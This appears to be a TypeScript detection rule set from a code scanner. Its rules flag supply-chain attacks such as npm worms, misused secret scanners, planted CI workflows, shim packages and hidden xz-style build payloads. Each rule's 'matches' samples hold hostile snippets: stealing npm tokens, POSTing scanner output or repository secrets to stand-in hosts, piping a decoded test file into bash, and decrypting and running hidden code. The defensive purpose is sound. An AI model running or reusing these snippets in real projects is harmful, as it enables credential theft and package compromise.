// Supply chain: packages that spread themselves, steal from build systems, stand in for others, or workflows that run
// what a stranger wrote. Beacons and install hooks have their own categories.
import { all, any, at, command, inside, is, js, near, path, py, type RuleSet, sh, statement } from '../model.ts'

const id = (name: string): string => `supply-chain.${name}`
const workflow =
  /(?:^|\/)(?:\.github\/workflows|\.gitea\/workflows|\.forgejo\/workflows)\/[^/]+\.ya?ml$|(?:^|\/)action\.ya?ml$/

export const supplyChain: RuleSet = {
  category: 'supply-chain',
  rules: [
    {
      id: id('worm'),
      severity: 'critical',
      why: "Publishes changed versions of a maintainer's packages with a stolen token.",
      when: all(
        any(
          is(
            ['npm publish', "'publish'", '"publish"', 'twine upload', 'cargo publish'],
            /npm publish|["']npm["'],\s*\[\s*["']publish["']|twine upload|cargo publish/,
          ),
        ),
        any(is(['_authtoken', 'npm_token', '.npmrc', 'pypirc'], null)),
        any(is(['maintainer:', '/-/whoami', 'npm whoami', '/-/v1/search', '/-/user', 'getpackagesbymaintainer'], null)),
        any(is(['postinstall', 'preinstall', 'scripts.', 'package.json', 'setup.py'], null)),
        any('download', 'exec'),
      ),
      matches: [
        js(
          "const token = /_authToken=(.+)/.exec(fs.readFileSync(home + '/.npmrc'))[1]\nconst pkgs = await fetch('https://registry.example.invalid/-/v1/search?text=maintainer:' + user)\nfor (const p of pkgs) { pkg.scripts.postinstall = 'node bundle.js'; execSync('npm publish --access public') }",
        ),
      ],
      misses: [
        js("execSync('npm publish', { env: { NPM_TOKEN: process.env.NPM_TOKEN } })"),
        sh('npm whoami && npm publish'),
      ],
    },
    {
      id: id('scanner-misuse'),
      severity: 'critical',
      why: 'Fetches a secret scanner, runs it over the machine and uploads what it finds.',
      when: any(
        all(
          is(
            ['trufflehog', 'gitleaks', 'noseyparker'],
            /(?:trufflehog|gitleaks|noseyparker)["',\s]{1,4}(?:filesystem|dir|detect|scan)[^\n]{0,80}(?:\/|~|home|HOME|homedir)/i,
          ),
          any(
            is(
              [
                'api.github.com/user/repos',
                'createforauthenticateduser',
                '/user/repos',
                'webhook.site',
                'shai-hulud',
                'createorupdatefilecontents',
              ],
              null,
            ),
          ),
          any('exec', 'send'),
        ),
        near(
          8,
          is(
            ['trufflehog', 'gitleaks', 'noseyparker'],
            /(?:trufflehog|gitleaks|noseyparker)\s+(?:filesystem|dir|detect|scan)[^\n]{0,80}?(?:\s\/(?:\s|$)|\s["']?~|\$\{?HOME\b|homedir\(|\/home\b|\/Users\b)/,
          ),
          is(['/releases/download'], /(?<=(?:trufflehog|gitleaks|noseyparker)[^\n]{0,60})\/releases\/download/),
          'send',
        ),
      ),
      matches: [
        sh(
          'wget -qO- https://github.com/gitleaks/gitleaks/releases/download/v8/g.tgz | tar xz\n./gitleaks detect --no-git -s "$HOME" -r /tmp/o.json\ncurl -s -X POST -F "f=@/tmp/o.json" https://x.example.invalid',
        ),
        js(
          "execSync('trufflehog filesystem / --json > /tmp/t.json')\nawait octokit.repos.createForAuthenticatedUser({ name: 'Shai-Hulud', private: false })",
        ),
      ],
      misses: [
        sh(
          'curl -sSfL https://github.com/gitleaks/gitleaks/releases/download/v8/g.tgz | tar xz\n./gitleaks detect --source . --redact',
        ),
        sh('trufflehog filesystem ./src --fail'),
      ],
    },
    {
      id: id('workflow-planted'),
      severity: 'critical',
      why: 'A program writes a workflow that sends the secrets of a repository away.',
      when: near(
        30,
        is(['.github/workflows'], null, { quoted: true }),
        is(['tojson(secrets)', 'secrets.'], /toJSON\(\s?secrets\s?\)|\$\{\{\s?secrets\./, { quoted: true }),
        is(
          ['curl', 'webhook.site', 'base64'],
          /curl\s[^\n]{0,160}(?:-d|--data\S*|-F|-X POST)|webhook\.site|base64 -w0 \| base64/,
          { quoted: true },
        ),
        any('write', is(['createorupdatefile', 'git push', 'contents/', 'git commit'], null)),
      ),
      matches: [
        py(
          "W = '''on: push\njobs:\n  a:\n    steps:\n      - run: echo ${{ toJSON(secrets) }} | curl -d @- https://webhook.site/x'''\nopen('.github/workflows/lint.yml', 'w').write(W)",
        ),
      ],
      misses: [py("open('.github/workflows/ci.yml', 'w').write(TEMPLATE)")],
    },
    {
      id: id('workflow-injection'),
      severity: 'medium',
      why: 'A workflow puts text that a stranger chooses into a shell script.',
      when: path(
        workflow,
        near(
          12,
          is(
            ['github.event.', 'github.head_ref'],
            /\$\{\{\s?(?:github\.event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label))|comment\.body|review\.body|review_comment\.body|head_commit\.(?:message|author\.\w{4,6})|discussion\.(?:title|body)|commits)|github\.head_ref)/,
            { before: 4 },
          ),
          is(['run:', 'script:'], null),
        ),
      ),
      matches: [
        at(
          '.github/workflows/a.yml',
          'on: issues\njobs:\n  a:\n    steps:\n      - run: echo "${{ github.event.issue.title }}"',
          'YAML',
        ),
      ],
      misses: [
        at('.github/workflows/a.yml', 'on: issues\njobs:\n  a:\n    steps:\n      - run: echo "$TITLE"', 'YAML'),
      ],
    },
    {
      id: id('workflow-untrusted'),
      severity: 'medium',
      why: "A workflow with the repository's rights checks out and runs a stranger's code.",
      when: path(
        workflow,
        all(
          near(
            40,
            is(
              ['pull_request.head.sha', 'pull_request.head.ref', 'github.head_ref', 'refs/pull/'],
              /pull_request\.head\.(?:sha|ref)|github\.head_ref|refs\/pull\//,
            ),
            is(['actions/checkout', 'git checkout', 'gh pr checkout'], null),
            is(['npm ', 'make', 'pip install', 'pytest', './', 'yarn', 'gradlew', 'cargo ', 'go test', 'pnpm'], null),
          ),
          is(['pull_request_target', 'workflow_run', 'issue_comment'], null),
        ),
      ),
      matches: [
        at(
          '.github/workflows/a.yml',
          'on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test',
          'YAML',
        ),
      ],
      misses: [
        at(
          '.github/workflows/a.yml',
          'on: pull_request\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm test',
          'YAML',
        ),
      ],
    },
    {
      id: id('plain-index'),
      severity: 'medium',
      why: 'Takes packages from an index over plain http or from a raw address, without verification.',
      when: command(
        is(
          ['--index-url', '--extra-index-url', '--registry', 'npm config set registry', '-i http:'],
          /(?:--(?:extra-)?index-url|--registry|registry|-i)[=\s]["']?http:\/\/(?!localhost|127\.|192\.168|10\.)[^\n]{3,120}/,
        ),
      ),
      matches: [
        sh(
          'pip install --extra-index-url http://pkgs.example.invalid/simple internal-lib --trusted-host pkgs.example.invalid',
        ),
      ],
      misses: [
        sh('pip install --index-url https://pypi.example.org/simple x'),
        sh('npm install --registry http://localhost:4873'),
      ],
    },
    {
      id: id('remote-dependency'),
      severity: 'medium',
      why: 'Depends on an archive at a plain http address, which whoever holds the address can change.',
      when: path(
        /(?:^|\/)package\.json$/,
        near(
          30,
          is(
            [': "http://', ':"http://'],
            /:\s?"http:\/\/(?!localhost)[\w.-]{3,80}(?::\d+)?(?=\/)[^"\n]{0,120}(?:\.tgz|\.tar\.gz|\/npm\/[^"\n]{1,60})"/,
          ),
          is(['dependencies"'], null),
        ),
      ),
      matches: [
        at('package.json', '{"name": "a", "dependencies": {"ui-pkg": "http://pkgs.example.invalid/npm/ui-pkg"}}'),
      ],
      misses: [at('package.json', '{"homepage": "http://example.org/a.tgz.html", "dependencies": {"a": "^1.0.0"}}')],
    },
    {
      id: id('shim'),
      severity: 'high',
      why: 'Stands in for another package: passes its names on and quietly fetches, decodes or starts something beside it.',
      when: any(
        inside(
          ['py'],
          near(
            25,
            is(
              ['from '],
              /(?<![^\n])from\s+(?:requests|urllib3|numpy|pandas|colorama|bs4|django|flask|cryptography|selenium|boto3|yaml|dateutil|tensorflow|torch|openai|discord|pillow|PIL|aiohttp|setuptools)(?:\.\w{1,30}){0,3}\s+import\s+\*/,
            ),
            is(
              ['popen(', 'os.system', 'exec(', 'urlopen', 'startfile', 'b64decode'],
              /Popen\(|os\.system\(|(?<![\w.])exec\(|urlopen\(|startfile\(|b64decode\(/,
            ),
            any(is(['http://', 'https://', 'devnull', 'create_no_window', 'exec(', 'shell=true', 'thread'], null)),
          ),
        ),
        inside(
          ['js'],
          near(
            25,
            is(
              ['module.exports'],
              /module\.exports\s*=\s*require\(["'](?:lodash|express|axios|chalk|react|request|debug|colors|commander|moment|ws|uuid|async|cross-env|dotenv|eslint|typescript|discord\.js|puppeteer|ethers|web3)["']\)/,
            ),
            is(
              ['child_process', 'eval(', 'https.get', 'http.get', 'spawn('],
              /child_process|(?<![\w$.])eval\(|https?\.get\(|spawn\(/,
            ),
          ),
        ),
      ),
      matches: [
        py(
          "from requests import *\nimport subprocess\nsubprocess.Popen(['python', '-c', CODE], creationflags=CREATE_NO_WINDOW)",
        ),
        js("module.exports = require('lodash')\nrequire('child_process').exec('node ' + __dirname + '/u.js')"),
      ],
      misses: [py('from requests import *\n\nVERSION = "1"'), js("module.exports = require('lodash')")],
    },
    {
      id: id('hidden-build-payload'),
      severity: 'critical',
      why: 'A build script rebuilds a program out of a test file and runs it.',
      when: command(
        any(
          is(
            ['xz -d', 'xz -dc', 'unxz', 'gzip -d'],
            /(?:tr|head|tail|sed|awk)\s[^\n|]{3,160}\|[^\n]{0,200}?(?:xz\s+-{1,2}d\w{0,10}|unxz|gzip\s+-d\w?)[^\n|]{0,40}\|[^\n]{0,120}?(?:\/bin\/)?(?:ba)?sh(?:\s|$|["'`)])/,
            { before: 400, after: 200 },
          ),
          statement(
            is(
              ['eval'],
              /eval\s+["'$`(]{1,4}[^\n]{0,160}?(?:tests?\/|fixtures?\/|testdata\/)[^\n]{0,120}?(?:\|\s*(?:xz|gzip|tr|base64|openssl)\s)/,
              { after: 420 },
            ),
            is(['xz', 'gzip', 'tr ', 'base64', 'openssl'], null),
          ),
        ),
      ),
      matches: [sh('sed "r\\n" $srcdir/tests/files/bad.xz | tr "\\t \\-_" " \\t_\\-" | xz -d 2>/dev/null | /bin/bash')],
      misses: [sh('tar -cf - src | xz -d | sha256sum'), sh('curl -L https://example.org/a.xz | xz -d | tar x')],
    },
    {
      id: id('keyed-payload'),
      severity: 'critical',
      why: 'Decrypts code with a property of the package that includes it, so that it runs for one victim only.',
      when: near(
        12,
        is(['npm_package_description', 'npm_package_name', 'npm_package_'], /npm_package_(?:description|name|version)/),
        is(['createdecipher'], null),
        is(
          ['_compile', 'eval(', 'function(', 'require(', 'runinthiscontext'],
          /_compile\(|(?<![\w$.])eval\(|new Function\(|runInThisContext/,
        ),
      ),
      matches: [
        js(
          "const k = process.env['npm_package_description']\nconst d = require('crypto').createDecipher('aes256', k)\nlet s = d.update(data, 'hex', 'utf8')\nnew module.constructor()._compile(s, '')",
        ),
      ],
      misses: [js('const name = process.env.npm_package_name\nconsole.log(name)')],
    },
    {
      id: id('swapped-manifest'),
      severity: 'critical',
      why: 'Replaces or removes its own manifest and files after it ran, to hide that it did.',
      when: any(
        statement(
          is(['rename', 'copyfile', 'cpsync'], /(?:rename|copyFile|cp)(?:Sync)?\s*\(/),
          is(['package.json'], /["'`/]package\.json["'`]/, { before: 1 }),
          is(
            ['package.md', 'package.bak', '.package', 'package2.json', 'package.json.bak', 'package-lock.md', 'pkg.md'],
            /package\.(?:md|bak|txt|orig)|pkg\.md/,
          ),
        ),
        near(
          6,
          is(
            [
              'unlinksync(__filename',
              'unlink(__filename',
              'rmsync(__filename',
              'os.remove(__file__',
              'os.unlink(__file__',
              'unlinksync(process.argv[1]',
              'rmsync(process.argv[1]',
            ],
            null,
          ),
          any('exec', 'download', is(['postinstall', 'spawn(', 'fetch('], null)),
        ),
      ),
      matches: [
        js("fs.unlinkSync(__filename)\nfs.renameSync('package.md', 'package.json')"),
        py('subprocess.Popen([p])\nos.remove(__file__)'),
      ],
      misses: [js("fs.renameSync('package.json.tmp', 'package.json')"), js('fs.unlinkSync(tmp)')],
    },
  ],
}
